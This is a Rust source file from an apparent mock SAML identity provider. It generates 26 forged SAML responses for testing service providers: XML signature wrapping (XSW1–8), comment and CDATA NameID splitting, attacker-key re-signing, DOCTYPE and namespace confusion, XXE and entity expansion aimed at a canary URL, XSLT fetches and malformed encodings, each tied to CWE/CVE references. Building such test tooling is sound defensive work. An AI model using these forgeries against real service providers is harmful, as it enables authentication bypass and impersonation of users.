@@ -1,0 +1,741 @@
+//! Layer 3: one named transform applied to the signed XML, and the table that names them
+//! (`mock-idp forge --list`, `GET /_control/forge/attacks`).
+//!
+//! Every attack is written here from its published description (SAML Raider's XSW family,
+//! the advisories named in the table); the "genuine" identity is the signed-in user, the
+//! "forged" one is `forged_identity`, the identity an evil copy names.
+
+use super::dom::{Document, Element, Node};
+use super::dsig::{self, ds, is_signature};
+use super::spec::{DigestAlgorithm, ForgeSpec};
+use super::{Ctx, dom};
+use crate::error::{Error, Result};
+use crate::saml::xml::{NS_DS, NS_SAML, NS_SAMLP};
+use crate::tenant::random_id;
+use base64::Engine as _;
+use base64::engine::general_purpose::STANDARD as B64;
+use serde::{Deserialize, Serialize};
+
+/// What an attack needs from the signing layer to make sense.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Needs {
+    Nothing,
+    AnySignature,
+    AssertionSignature,
+    ResponseSignature,
+}
+
+impl Needs {
+    pub fn describe(self) -> &'static str {
+        match self {
+            Needs::Nothing => "nothing",
+            Needs::AnySignature => "a signature (sign: assertion, response or both)",
+            Needs::AssertionSignature => "a signed assertion (sign: assertion or both)",
+            Needs::ResponseSignature => "a signed Response (sign: response or both)",
+        }
+    }
+}
+
+macro_rules! attacks {
+    ($( $variant:ident => $name:literal, $needs:ident, identity: $identity:literal, canary: $canary:literal,
+        $cwe:literal, $cve:expr, $desc:literal; )*) => {
+        /// An attack, named in snake_case on the wire (`"xsw3"`, `"comment_in_nameid"`).
+        #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
+        pub enum Attack { $( #[serde(rename = $name)] $variant, )* }
+
+        impl Attack {
+            pub const ALL: &'static [Attack] = &[ $( Attack::$variant, )* ];
+
+            pub fn name(self) -> &'static str {
+                match self { $( Attack::$variant => $name, )* }
+            }
+
+            pub fn needs(self) -> Needs {
+                match self { $( Attack::$variant => Needs::$needs, )* }
+            }
+
+            /// Whether the attack writes `forged_identity` somewhere.
+            pub fn needs_identity(self) -> bool {
+                match self { $( Attack::$variant => $identity, )* }
+            }
+
+            /// Whether the attack points at `canary_url`.
+            pub fn needs_canary(self) -> bool {
+                match self { $( Attack::$variant => $canary, )* }
+            }
+
+            pub fn cwe(self) -> &'static str {
+                match self { $( Attack::$variant => $cwe, )* }
+            }
+
+            pub fn cve(self) -> Option<&'static str> {
+                match self { $( Attack::$variant => $cve, )* }
+            }
+
+            pub fn description(self) -> &'static str {
+                match self { $( Attack::$variant => $desc, )* }
+            }
+        }
+    };
+}
+
+attacks! {
+    Xsw1 => "xsw1", ResponseSignature, identity: true, canary: false, "CWE-347", None,
+        "XSW1: the signed Response, its signature removed, is appended inside the Signature of an evil Response (new ID, forged identity) that keeps the original signature";
+    Xsw2 => "xsw2", ResponseSignature, identity: true, canary: false, "CWE-347", None,
+        "XSW2: as xsw1, but the original Response sits before the Signature as its sibling (a detached signature)";
+    Xsw3 => "xsw3", AssertionSignature, identity: true, canary: false, "CWE-347", None,
+        "XSW3: an evil unsigned copy of the assertion (new ID, forged identity) is inserted before the signed one";
+    Xsw4 => "xsw4", AssertionSignature, identity: true, canary: false, "CWE-347", None,
+        "XSW4: the signed assertion becomes the last child of an evil unsigned copy (new ID, forged identity) that takes its place";
+    Xsw5 => "xsw5", AssertionSignature, identity: true, canary: false, "CWE-347", None,
+        "XSW5: the evil assertion (new ID, forged identity) keeps the original Signature; an unsigned copy of the original is appended to the Response";
+    Xsw6 => "xsw6", AssertionSignature, identity: true, canary: false, "CWE-347", None,
+        "XSW6: the evil assertion keeps the original Signature, and the unsigned original sits inside that Signature";
+    Xsw7 => "xsw7", AssertionSignature, identity: true, canary: false, "CWE-347", None,
+        "XSW7: an evil unsigned copy with the same ID goes into a samlp:Extensions element (lax schema) before the signed assertion";
+    Xsw8 => "xsw8", AssertionSignature, identity: true, canary: false, "CWE-347", None,
+        "XSW8: the assertion itself says the forged identity and keeps its Signature; the unsigned original (same ID) sits in a ds:Object inside that Signature";
+    DuplicateAssertion => "duplicate_assertion", AssertionSignature, identity: true, canary: false, "CWE-347", Some("CVE-2022-41912"),
+        "the genuine signed assertion, then an unsigned copy (new ID) that names the forged identity";
+    SignatureExclusion => "signature_exclusion", Nothing, identity: false, canary: false, "CWE-347", None,
+        "every ds:Signature removed (and, with forged_identity, every NameID and matching attribute value says it)";
+    CommentInNameid => "comment_in_nameid", AnySignature, identity: true, canary: false, "CWE-436", Some("CVE-2017-11427"),
+        "an empty comment splits the signed NameID (and equal attribute values) after the forged identity, which must be a prefix of the genuine one: c14n drops comments, so the signature holds, and a reader of the first text node sees the forged identity";
+    CdataInNameid => "cdata_in_nameid", AnySignature, identity: true, canary: false, "CWE-436", None,
+        "the signed NameID (and equal attribute values) is split into text and a CDATA section after the forged identity, which must be a prefix of the genuine one: c14n reads both as text, a reader of text nodes only sees the forged identity";
+    AdviceWrapping => "advice_wrapping", AssertionSignature, identity: true, canary: false, "CWE-347", None,
+        "the genuine signed assertion moves into saml:Advice of an evil unsigned assertion (new ID, forged identity) that takes its place";
+    CommentInDigestValue => "comment_in_digest_value", AnySignature, identity: true, canary: false, "CWE-347", Some("CVE-2025-29775"),
+        "the signed element is edited to the forged identity and a comment holding its new digest is put before the genuine DigestValue text: c14n drops the comment (SignatureValue still verifies), a reader of the first child node takes the comment's digest, which matches";
+    SecondSignedInfo => "second_signed_info", AssertionSignature, identity: true, canary: false, "CWE-347", Some("CVE-2025-29774"),
+        "the evil assertion (new ID, forged identity) carries the original Signature plus a second SignedInfo that references it with a correct digest; the unsigned original follows it";
+    TwoRoots => "two_roots", AssertionSignature, identity: true, canary: false, "CWE-347", Some("CVE-2022-39299"),
+        "the genuine signed assertion as the document's first top-level element, then an evil unsigned Response (forged identity) as a second one: not well-formed";
+    SignedElementInIssuer => "signed_element_in_issuer", AnySignature, identity: true, canary: false, "CWE-347", None,
+        "an evil copy of the signed element (new ID, forged identity, a junk Signature of its own) holds the genuine signed element inside its Issuer";
+    AttackerKeyValue => "attacker_key_value", AnySignature, identity: true, canary: false, "CWE-347", Some("CVE-2024-32962"),
+        "the forged identity, re-signed with an attacker key the metadata never lists, shipped as ds:RSAKeyValue (no certificate)";
+    DoctypeFakeAssertion => "doctype_fake_assertion", AnySignature, identity: true, canary: false, "CWE-436", Some("CVE-2025-25291"),
+        "the genuine signed response behind a DOCTYPE whose internal subset declares an entity holding an evil assertion (forged identity): content only to a parser that reads the DTD as markup, or to a text search";
+    NamespaceConfusion => "namespace_confusion", AssertionSignature, identity: true, canary: false, "CWE-436", Some("CVE-2025-25292"),
+        "an evil unprefixed <Assertion> (no namespace declared) before the signed one, and a DOCTYPE ATTLIST that gives Assertion the SAML namespace as a #FIXED default xmlns: only a parser applying DTD defaults sees a SAML assertion there";
+    Xxe => "xxe", Nothing, identity: false, canary: true, "CWE-611", None,
+        "a DOCTYPE with an external parameter entity and an external general entity at canary_url; the general entity is referenced in the Response's Issuer";
+    EntityExpansion => "entity_expansion", Nothing, identity: false, canary: true, "CWE-776", None,
+        "billion laughs bounded at 100,000 copies (5 levels of 10), whose top entity also references an external entity at canary_url; referenced in the Response's Issuer";
+    XsltTransform => "xslt_transform", AnySignature, identity: false, canary: true, "CWE-918", None,
+        "an XSLT transform whose stylesheet loads document(canary_url) is put first in the first Reference's Transforms (the signature no longer verifies; a vulnerable SP fetches the canary while processing the Reference)";
+    Junk => "junk", Nothing, identity: false, canary: false, "CWE-20", None,
+        "SAMLResponse is not base64 at all";
+    Truncated => "truncated", Nothing, identity: false, canary: false, "CWE-20", None,
+        "SAMLResponse is the base64 of the first half of the XML";
+    WrongEncoding => "wrong_encoding", Nothing, identity: false, canary: false, "CWE-172", None,
+        "the XML as ISO-8859-1 bytes under a UTF-8 declaration (non-ASCII text, and a trailing comment with a Latin-1 byte, are not UTF-8)";
+}
+
+/// Bounded entity expansion: `lol5` expands to 10^5 copies of "lol".
+pub const EXPANSION_LEVELS: u32 = 5;
+
+impl Attack {
+    /// Attacks that act on the delivered bytes rather than on the XML tree.
+    pub fn on_bytes(self) -> bool {
+        matches!(
+            self,
+            Attack::Junk | Attack::Truncated | Attack::WrongEncoding
+        )
+    }
+
+    /// Attacks that rearrange or edit the assertion itself: with an encrypted assertion they
+    /// work on the plaintext and the result is encrypted again.
+    fn on_assertion(self) -> bool {
+        !matches!(
+            self,
+            Attack::Xsw1
+                | Attack::Xsw2
+                | Attack::Xxe
+                | Attack::EntityExpansion
+                | Attack::XsltTransform
+                | Attack::Junk
+                | Attack::Truncated
+                | Attack::WrongEncoding
+        )
+    }
+}
+
+impl std::fmt::Display for Attack {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.write_str(self.name())
+    }
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct AttackInfo {
+    pub name: &'static str,
+    pub description: &'static str,
+    pub cwe: &'static str,
+    pub cve: Option<&'static str>,
+    pub needs: Needs,
+    pub forged_identity: bool,
+    pub canary_url: bool,
+}
+
+pub fn infos() -> Vec<AttackInfo> {
+    Attack::ALL
+        .iter()
+        .map(|a| AttackInfo {
+            name: a.name(),
+            description: a.description(),
+            cwe: a.cwe(),
+            cve: a.cve(),
+            needs: a.needs(),
+            forged_identity: a.needs_identity(),
+            canary_url: a.needs_canary(),
+        })
+        .collect()
+}
+
+/// The table `mock-idp forge --list` prints: name, CWE, CVE, description.
+pub fn listing() -> String {
+    let width = Attack::ALL
+        .iter()
+        .map(|a| a.name().len())
+        .max()
+        .unwrap_or(0);
+    let mut out = format!(
+        "{:<width$}  {:<8}  {:<14}  description\n",
+        "name", "cwe", "cve"
+    );
+    for a in Attack::ALL {
+        out.push_str(&format!(
+            "{:<width$}  {:<8}  {:<14}  {}\n",
+            a.name(),
+            a.cwe(),
+            a.cve().unwrap_or("-"),
+            a.description()
+        ));
+    }
+    out
+}
+
+fn needs(attack: Attack, what: &str) -> Error {
+    Error::BadRequest(format!(
+        "attack {attack} needs {what}, and this response has none"
+    ))
+}
+
+fn new_id() -> String {
+    random_id("_evil")
+}
+
+fn signature_index(el: &Element) -> Option<usize> {
+    el.child_index(is_signature)
+}
+
+/// The index (in the root's children) of the first assertion that carries its signature.
+fn signed_assertion(root: &Element, attack: Attack) -> Result<usize> {
+    root.child_index(|e| e.is(NS_SAML, "Assertion") && signature_index(e).is_some())
+        .ok_or_else(|| needs(attack, "a signed assertion"))
+}
+
+fn element_at(root: &Element, i: usize) -> Result<Element> {
+    match root.children.get(i) {
+        Some(Node::Element(e)) => Ok(e.clone()),
+        _ => Err(Error::Xml("expected an element".into())),
+    }
+}
+
+fn without_signature(el: &Element) -> (Element, Option<Element>) {
+    let mut copy = el.clone();
+    let sig = signature_index(&copy).and_then(|i| match copy.children.remove(i) {
+        Node::Element(s) => Some(s),
+        _ => None,
+    });
+    (copy, sig)
+}
+
+/// Applies `attack` to the signed document.
+pub(crate) fn apply(
+    attack: Attack,
+    doc: &mut Document,
+    ctx: &mut Ctx<'_>,
+    spec: &ForgeSpec,
+) -> Result<()> {
+    if attack.on_bytes() {
+        return Ok(());
+    }
+    if attack == Attack::AttackerKeyValue {
+        return ctx.resign_as_attacker(doc);
+    }
+    let view = attack.on_assertion() && ctx.encrypted();
+    if view {
+        ctx.decrypt_view(doc);
+    }
+    transform(attack, doc, ctx, spec)?;
+    if view {
+        ctx.encrypt_outermost(doc)?;
+    }
+    Ok(())
+}
+
+fn transform(
+    attack: Attack,
+    doc: &mut Document,
+    ctx: &mut Ctx<'_>,
+    spec: &ForgeSpec,
+) -> Result<()> {
+    let root = doc.root_or_err()?;
+    match attack {
+        Attack::Xsw1 | Attack::Xsw2 => {
+            let (orig, sig) = without_signature(root);
+            let mut sig = sig.ok_or_else(|| needs(attack, "a signed Response"))?;
+            let mut evil = ctx.evil(root, Some(&new_id()))?;
+            if attack == Attack::Xsw1 {
+                sig.children.push(Node::Element(orig));
+                evil.insert_after_child(NS_SAML, "Issuer", sig);
+            } else {
+                evil.insert_after_child(NS_SAML, "Issuer", sig);
+                let at = signature_index(&evil).unwrap_or(0);
+                evil.children.insert(at, Node::Element(orig));
+            }
+            *root = evil;
+        }
+        Attack::Xsw3 | Attack::DuplicateAssertion => {
+            let i = signed_assertion(root, attack)?;
+            let a = element_at(root, i)?;
+            let evil = ctx.evil(&a, Some(&new_id()))?;
+            let at = if attack == Attack::Xsw3 { i } else { i + 1 };
+            root.children.insert(at, Node::Element(evil));
+        }
+        Attack::Xsw4 => {
+            let i = signed_assertion(root, attack)?;
+            let a = element_at(root, i)?;
+            let mut evil = ctx.evil(&a, Some(&new_id()))?;
+            evil.children.push(Node::Element(a));
+            root.children[i] = Node::Element(evil);
+        }
+        Attack::Xsw5 | Attack::Xsw6 => {
+            let i = signed_assertion(root, attack)?;
+            let a = element_at(root, i)?;
+            let (orig, sig) = without_signature(&a);
+            let mut sig = sig.ok_or_else(|| needs(attack, "a signed assertion"))?;
+            let mut evil = ctx.evil(&a, Some(&new_id()))?;
+            if attack == Attack::Xsw6 {
+                sig.children.push(Node::Element(orig));
+                evil.insert_after_child(NS_SAML, "Issuer", sig);
+                root.children[i] = Node::Element(evil);
+            } else {
+                evil.insert_after_child(NS_SAML, "Issuer", sig);
+                root.children[i] = Node::Element(evil);
+                root.children.push(Node::Element(orig));
+            }
+        }
+        Attack::Xsw7 => {
+            let i = signed_assertion(root, attack)?;
+            let a = element_at(root, i)?;
+            // Same ID as the original: which of the two an ID lookup finds is the test.
+            let evil = ctx.evil(&a, None)?;
+            let ext = Element::new(Some("samlp"), "Extensions", Some(NS_SAMLP)).with_child(evil);
+            // Schema order: Issuer, Signature, Extensions, Status.
+            let at = root.child_index(|e| e.is(NS_SAMLP, "Status")).unwrap_or(i);
+            root.children.insert(at, Node::Element(ext));
+        }
+        Attack::Xsw8 => {
+            let i = signed_assertion(root, attack)?;
+            let a = element_at(root, i)?;
+            let (orig, _) = without_signature(&a);
+            let mut evil = a;
+            ctx.forge_identity(&mut evil)?;
+            let sig = evil
+                .child_mut(NS_DS, "Signature")
+                .ok_or_else(|| needs(attack, "a signed assertion"))?;
+            sig.children
+                .push(Node::Element(ds("Object").with_child(orig)));
+            root.children[i] = Node::Element(evil);
+        }
+        Attack::SignatureExclusion => {
+            for node in &mut doc.nodes {
+                if let Node::Element(e) = node {
+                    e.remove_all(&is_signature);
+                    if spec.forged_identity.is_some() {
+                        ctx.forge_identity(e)?;
+                    }
+                }
+            }
+        }
+        Attack::CommentInNameid | Attack::CdataInNameid => {
+            let genuine = ctx.genuine.clone();
+            let forged = ctx.forged()?.to_string();
+            let rest = genuine
+                .strip_prefix(forged.as_str())
+                .filter(|r| !r.is_empty())
+                .ok_or_else(|| {
+                    Error::BadRequest(format!(
+                        "{attack}: forged_identity '{forged}' must be a proper prefix of the signed-in user's NameID '{genuine}' (e.g. alice@acme.test for alice@acme.test.evil.test)"
+                    ))
+                })?
+                .to_string();
+            let mut split = 0usize;
+            root.walk_mut(&mut |e: &mut Element| {
+                let target = (e.is(NS_SAML, "NameID") || e.is(NS_SAML, "AttributeValue"))
+                    && e.text() == genuine;
+                if target {
+                    e.children = if attack == Attack::CommentInNameid {
+                        vec![
+                            Node::Text(forged.clone()),
+                            Node::Comment(String::new()),
+                            Node::Text(rest.clone()),
+                        ]
+                    } else {
+                        vec![Node::Text(forged.clone()), Node::CData(rest.clone())]
+                    };
+                    split += 1;
+                }
+            });
+            if split == 0 {
+                return Err(needs(attack, "a NameID"));
+            }
+        }
+        Attack::AdviceWrapping => {
+            let i = signed_assertion(root, attack)?;
+            let a = element_at(root, i)?;
+            let mut evil = ctx.evil(&a, Some(&new_id()))?;
+            let advice = Element::new(Some("saml"), "Advice", Some(NS_SAML)).with_child(a);
+            // Schema order: Issuer, Signature, Subject, Conditions, Advice, statements.
+            let at = evil
+                .child_index(|e| e.is(NS_SAML, "Conditions"))
+                .or_else(|| evil.child_index(|e| e.is(NS_SAML, "Subject")))
+                .map_or(evil.children.len(), |c| c + 1);
+            evil.children.insert(at, Node::Element(advice));
+            root.children[i] = Node::Element(evil);
+        }
+        Attack::CommentInDigestValue => {
+            // The element that carries the identity: the signed assertion, else the Response.
+            let target: &mut Element = match root
+                .child_index(|e| e.is(NS_SAML, "Assertion") && signature_index(e).is_some())
+            {
+                Some(i) => root
+                    .element_at_mut(i)
+                    .ok_or_else(|| Error::Xml("expected an element".into()))?,
+                None if signature_index(root).is_some() => root,
+                None => return Err(needs(attack, "a signature")),
+            };
+            ctx.forge_identity(target)?;
+            let sig_i = signature_index(target).ok_or_else(|| needs(attack, "a signature"))?;
+            let alg = match target.children.get(sig_i) {
+                Some(Node::Element(sig)) => digest_algorithm_of(sig)?,
+                _ => return Err(needs(attack, "a signature")),
+            };
+            let digest = {
+                let sig = match target.children.get(sig_i) {
+                    Some(Node::Element(s)) => s,
+                    _ => return Err(needs(attack, "a signature")),
+                };
+                dsig::reference_digest(target, Some(sig), alg)?
+            };
+            let dv = target
+                .find_mut(&|e| e.is(NS_DS, "DigestValue"))
+                .ok_or_else(|| needs(attack, "a DigestValue"))?;
+            let genuine = dv.text();
+            dv.children = vec![Node::Comment(B64.encode(digest)), Node::Text(genuine)];
+        }
+        Attack::SecondSignedInfo => {
+            let i = signed_assertion(root, attack)?;
+            let a = element_at(root, i)?;
+            let (orig, sig) = without_signature(&a);
+            let mut sig = sig.ok_or_else(|| needs(attack, "a signed assertion"))?;
+            let id = new_id();
+            let mut evil = ctx.evil(&a, Some(&id))?;
+            let (signature, digest) = algorithms_of(&sig)?;
+            let value = dsig::reference_digest(&evil, None, digest)?;
+            let second = dsig::signed_info(signature, digest, &id, &value);
+            // After SignatureValue: SignedInfo, SignatureValue, SignedInfo (evil), KeyInfo.
+            let at = sig
+                .child_index(|e| e.is(NS_DS, "SignatureValue"))
+                .map_or(sig.children.len(), |v| v + 1);
+            sig.children.insert(at, Node::Element(second));
+            evil.insert_after_child(NS_SAML, "Issuer", sig);
+            root.children[i] = Node::Element(evil);
+            root.children.insert(i + 1, Node::Element(orig));
+        }
+        Attack::TwoRoots => {
+            let i = signed_assertion(root, attack)?;
+            let a = element_at(root, i)?;
+            let evil_response = ctx.evil(root, Some(&new_id()))?;
+            doc.nodes = vec![Node::Element(a), Node::Element(evil_response)];
+        }
+        Attack::SignedElementInIssuer => {
+            let assertion =
+                root.child_index(|e| e.is(NS_SAML, "Assertion") && signature_index(e).is_some());
+            let genuine = match assertion {
+                Some(i) => element_at(root, i)?,
+                None if signature_index(root).is_some() => root.clone(),
+                None => return Err(needs(attack, "a signature")),
+            };
+            let id = new_id();
+            let mut evil = ctx.evil(&genuine, Some(&id))?;
+            let (signature, digest) = match genuine.child(NS_DS, "Signature") {
+                Some(s) => algorithms_of(s)?,
+                None => return Err(needs(attack, "a signature")),
+            };
+            let junk_digest: [u8; 32] = rand::random();
+            let junk_value: [u8; 256] = rand::random();
+            let junk = ds("Signature")
+                .declare(Some("ds"), NS_DS)
+                .with_child(dsig::signed_info(signature, digest, &id, &junk_digest))
+                .with_child(ds("SignatureValue").with_text(&B64.encode(junk_value)));
+            evil.insert_after_child(NS_SAML, "Issuer", junk);
+            let issuer = evil
+                .child_mut(NS_SAML, "Issuer")
+                .ok_or_else(|| needs(attack, "an Issuer"))?;
+            issuer.children.push(Node::Element(genuine));
+            match assertion {
+                Some(i) => root.children[i] = Node::Element(evil),
+                None => *root = evil,
+            }
+        }
+        Attack::DoctypeFakeAssertion => {
+            let a = ctx
+                .plain_assertion(root)
+                .ok_or_else(|| needs(attack, "an assertion"))?;
+            let evil = ctx.evil(&a, Some(&new_id()))?;
+            let text = dom::write_element(&evil);
+            let root_name = root.qname();
+            doc.doctype = Some(doctype(
+                &root_name,
+                &[format!("<!ENTITY fake-assertion {}>", entity_value(&text))],
+            ));
+        }
+        Attack::NamespaceConfusion => {
+            let i = signed_assertion(root, attack)?;
+            let a = element_at(root, i)?;
+            let mut evil = ctx.evil(&a, Some(&new_id()))?;
+            // Unprefixed SAML elements with no namespace declared: in no namespace at all,
+            // unless the DTD's default xmlns is applied.
+            evil.walk_mut(&mut |e: &mut Element| {
+                if e.ns.as_deref() == Some(NS_SAML) {
+                    e.prefix = None;
+                    e.ns = None;
+                }
+                e.ns_decls.clear();
+            });
+            root.children.insert(i, Node::Element(evil));
+            let root_name = root.qname();
+            doc.doctype = Some(doctype(
+                &root_name,
+                &[format!(
+                    "<!ATTLIST Assertion xmlns CDATA #FIXED \"{NS_SAML}\">"
+                )],
+            ));
+        }
+        Attack::Xxe => {
+            let canary = ctx.canary()?.to_string();
+            entity_in_issuer(root, "xxe");
+            let root_name = root.qname();
+            doc.doctype = Some(doctype(
+                &root_name,
+                &[
+                    format!("<!ENTITY % remote SYSTEM \"{canary}\">"),
+                    "%remote;".to_string(),
+                    format!("<!ENTITY xxe SYSTEM \"{canary}\">"),
+                ],
+            ));
+        }
+        Attack::EntityExpansion => {
+            let canary = ctx.canary()?.to_string();
+            let top = format!("lol{EXPANSION_LEVELS}");
+            entity_in_issuer(root, &top);
+            let mut decls = vec![
+                format!("<!ENTITY canary SYSTEM \"{canary}\">"),
+                "<!ENTITY lol0 \"lol\">".to_string(),
+            ];
+            for level in 1..=EXPANSION_LEVELS {
+                let below = format!("&lol{};", level - 1).repeat(10);
+                let extra = if level == EXPANSION_LEVELS {
+                    "&canary;"
+                } else {
+                    ""
+                };
+                decls.push(format!("<!ENTITY lol{level} \"{below}{extra}\">"));
+            }
+            let root_name = root.qname();
+            doc.doctype = Some(doctype(&root_name, &decls));
+        }
+        Attack::XsltTransform => {
+            let canary = ctx.canary()?.to_string();
+            let transforms = root
+                .find_mut(&|e| e.is(NS_DS, "Transforms"))
+                .ok_or_else(|| needs(attack, "a signature"))?;
+            const XSL: &str = "http://www.w3.org/1999/XSL/Transform";
+            let xsl = |local: &str| Element::new(Some("xsl"), local, Some(XSL));
+            let stylesheet = xsl("stylesheet")
+                .declare(Some("xsl"), XSL)
+                .with_attr("version", "1.0")
+                .with_child(xsl("template").with_attr("match", "/").with_child(
+                    xsl("copy-of").with_attr("select", &format!("document('{canary}')")),
+                ));
+            let transform = ds("Transform")
+                .with_attr("Algorithm", "http://www.w3.org/TR/1999/REC-xslt-19991116")
+                .with_child(stylesheet);
+            transforms.children.insert(0, Node::Element(transform));
+        }
+        Attack::AttackerKeyValue | Attack::Junk | Attack::Truncated | Attack::WrongEncoding => {}
+    }
+    Ok(())
+}
+
+/// `<!DOCTYPE root [ decls ]>` content. The DTD is not XML markup the writer can build, so
+/// it is assembled here from declarations whose literals are quoted by `entity_value`.
+fn doctype(root: &str, decls: &[String]) -> String {
+    let mut out = String::from(root);
+    out.push_str(" [\n");
+    for d in decls {
+        out.push_str(d);
+        out.push('\n');
+    }
+    out.push(']');
+    out
+}
+
+/// A single-quoted entity value literal holding `text`: its `'` and `%` (which would end the
+/// literal or start a parameter entity) become character references.
+fn entity_value(text: &str) -> String {
+    let mut out = String::with_capacity(text.len() + 2);
+    out.push('\'');
+    for c in text.chars() {
+        match c {
+            '\'' => out.push_str("&#39;"),
+            '%' => out.push_str("&#37;"),
+            c => out.push(c),
+        }
+    }
+    out.push('\'');
+    out
+}
+
+/// Puts `&name;` at the end of the Response's Issuer (or of the root when it has none).
+fn entity_in_issuer(root: &mut Element, name: &str) {
+    let target = match root.child_index(|e| e.is(NS_SAML, "Issuer")) {
+        Some(i) => match root.element_at_mut(i) {
+            Some(e) => e,
+            None => return,
+        },
+        None => root,
+    };
+    target.children.push(Node::EntityRef(name.to_string()));
+}
+
+fn digest_algorithm_of(sig: &Element) -> Result<DigestAlgorithm> {
+    Ok(algorithms_of(sig)?.1)
+}
+
+/// The signature and digest algorithms a Signature element names.
+fn algorithms_of(sig: &Element) -> Result<(super::spec::SignatureAlgorithm, DigestAlgorithm)> {
+    use super::spec::SignatureAlgorithm as S;
+    let uri = |local: &str| {
+        sig.find(&|e| e.is(NS_DS, local))
+            .and_then(|e| e.attr("Algorithm"))
+            .map(str::to_string)
+            .unwrap_or_default()
+    };
+    let (s, d) = (uri("SignatureMethod"), uri("DigestMethod"));
+    let signature = [S::RsaSha1, S::RsaSha256, S::RsaSha384, S::RsaSha512]
+        .into_iter()
+        .find(|a| a.uri() == s)
+        .ok_or_else(|| Error::Xml(format!("unknown SignatureMethod '{s}'")))?;
+    let digest = [
+        DigestAlgorithm::Sha1,
+        DigestAlgorithm::Sha256,
+        DigestAlgorithm::Sha384,
+        DigestAlgorithm::Sha512,
+    ]
+    .into_iter()
+    .find(|a| a.uri() == d)
+    .ok_or_else(|| Error::Xml(format!("unknown DigestMethod '{d}'")))?;
+    Ok((signature, digest))
+}
+
+/// The SAMLResponse form value and the decoded text for the log, for the attacks that act on
+/// the bytes; `None` for the others.
+pub fn on_bytes(attack: Option<Attack>, xml: &str) -> Option<(String, String)> {
+    match attack? {
+        Attack::Junk => {
+            let junk = "!! mock-idp junk: this SAMLResponse is not base64 at all ~ <samlp:Response/> ~ %%%".to_string();
+            Some((junk.clone(), junk))
+        }
+        Attack::Truncated => {
+            let mut cut = xml.len() / 2;
+            while !xml.is_char_boundary(cut) {
+                cut -= 1;
+            }
+            let half = &xml[..cut];
+            Some((B64.encode(half.as_bytes()), half.to_string()))
+        }
+        Attack::WrongEncoding => {
+            let bytes = latin1(xml);
+            let shown = String::from_utf8_lossy(&bytes).into_owned();
+            Some((B64.encode(&bytes), shown))
+        }
+        _ => None,
+    }
+}
+
+/// `xml` with a UTF-8 declaration, encoded as ISO-8859-1 (characters beyond it become `?`),
+/// plus a trailing comment holding "é" as the single byte 0xE9, so the bytes are never UTF-8.
+fn latin1(xml: &str) -> Vec<u8> {
+    let mut bytes = Vec::with_capacity(xml.len() + 64);
+    if !xml.starts_with("<?xml") {
+        bytes.extend_from_slice(b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n");
+    }
+    for c in xml.chars() {
+        bytes.push(u8::try_from(u32::from(c)).unwrap_or(b'?'));
+    }
+    bytes.extend_from_slice(b"\n<!-- caf\xE9 -->");
+    bytes
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn names_are_unique_and_wire_names_match() {
+        let mut seen = std::collections::HashSet::new();
+        for a in Attack::ALL {
+            assert!(seen.insert(a.name()), "{a}");
+            let wire = serde_json::to_string(a).unwrap();
+            assert_eq!(wire, format!("\"{}\"", a.name()));
+            assert!(a.cwe().starts_with("CWE-"));
+            assert!(a.cve().is_none_or(|c| c.starts_with("CVE-")));
+        }
+        assert_eq!(Attack::ALL.len(), 26);
+    }
+
+    #[test]
+    fn listing_has_a_header_and_one_line_per_attack() {
+        let l = listing();
+        assert_eq!(l.lines().count(), Attack::ALL.len() + 1);
+        assert!(
+            l.lines()
+                .any(|x| x.starts_with("duplicate_assertion") && x.contains("CVE-2022-41912"))
+        );
+    }
+
+    #[test]
+    fn latin1_is_not_utf8_and_truncated_is_half() {
+        let bytes = latin1("<r>Zoë</r>");
+        assert!(std::str::from_utf8(&bytes).is_err());
+        assert!(bytes.windows(3).any(|w| w == b"Zo\xEB"));
+        let (b64, half) = on_bytes(Some(Attack::Truncated), "<r>0123456789</r>").unwrap();
+        assert_eq!(half, "<r>01234");
+        assert_eq!(B64.decode(b64).unwrap(), b"<r>01234");
+        let (junk, _) = on_bytes(Some(Attack::Junk), "<r/>").unwrap();
+        assert!(B64.decode(junk).is_err());
+    }
+
+    #[test]
+    fn entity_values_cannot_break_out() {
+        assert_eq!(entity_value("a'b%c\"d"), "'a&#39;b&#37;c\"d'");
+    }
+}
